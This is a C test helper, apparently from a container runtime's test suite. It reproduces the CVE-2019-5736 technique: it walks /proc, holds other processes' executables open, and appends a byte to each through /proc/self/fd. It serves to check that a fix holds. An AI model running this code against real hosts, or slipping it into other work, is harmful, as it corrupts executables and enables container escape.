// spoil-exe SECONDS: looks at every process it can see, keeps their programs' files open and tries
// to append a byte to each that is not its own, also after the process has gone (CVE-2019-5736).
// Prints "spoiled N". The test gives it a copy of the runtime to spoil, never the real one.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define KEPT_MAX 256

static int kept[KEPT_MAX];
static int kept_count;
static struct stat own, shell;

static int foreign(int fd) {
  struct stat file;
  if (fstat(fd, &file) != 0) return 0;
  if (file.st_dev == own.st_dev && file.st_ino == own.st_ino) return 0;
  if (file.st_dev == shell.st_dev && file.st_ino == shell.st_ino) return 0;
  for (int i = 0; i < kept_count; i++) {
    struct stat other;
    if (fstat(kept[i], &other) == 0 && other.st_dev == file.st_dev && other.st_ino == file.st_ino) return 0;
  }
  return 1;
}

static void collect(void) {
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while (proc && (entry = readdir(proc))) {
    char path[300];
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (kept_count < KEPT_MAX && foreign(fd)) kept[kept_count++] = fd;
    else close(fd);
  }
  if (proc) closedir(proc);
}

static int spoil(void) {
  int spoiled = 0;
  for (int i = 0; i < kept_count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) continue;
    if (write(fd, "!", 1) == 1) spoiled++;
    close(fd);
  }
  return spoiled;
}

int main(int argc, char **argv) {
  time_t end = time(0) + (argc > 1 ? atoi(argv[1]) : 1);
  int spoiled = 0;
  stat("/proc/self/exe", &own);
  stat("/bin/busybox", &shell);
  puts("looking");
  fflush(stdout);
  while (time(0) < end) {
    collect();
    spoiled += spoil();
  }
  printf("spoiled %d of %d\n", spoiled, kept_count);
  return 0;
}
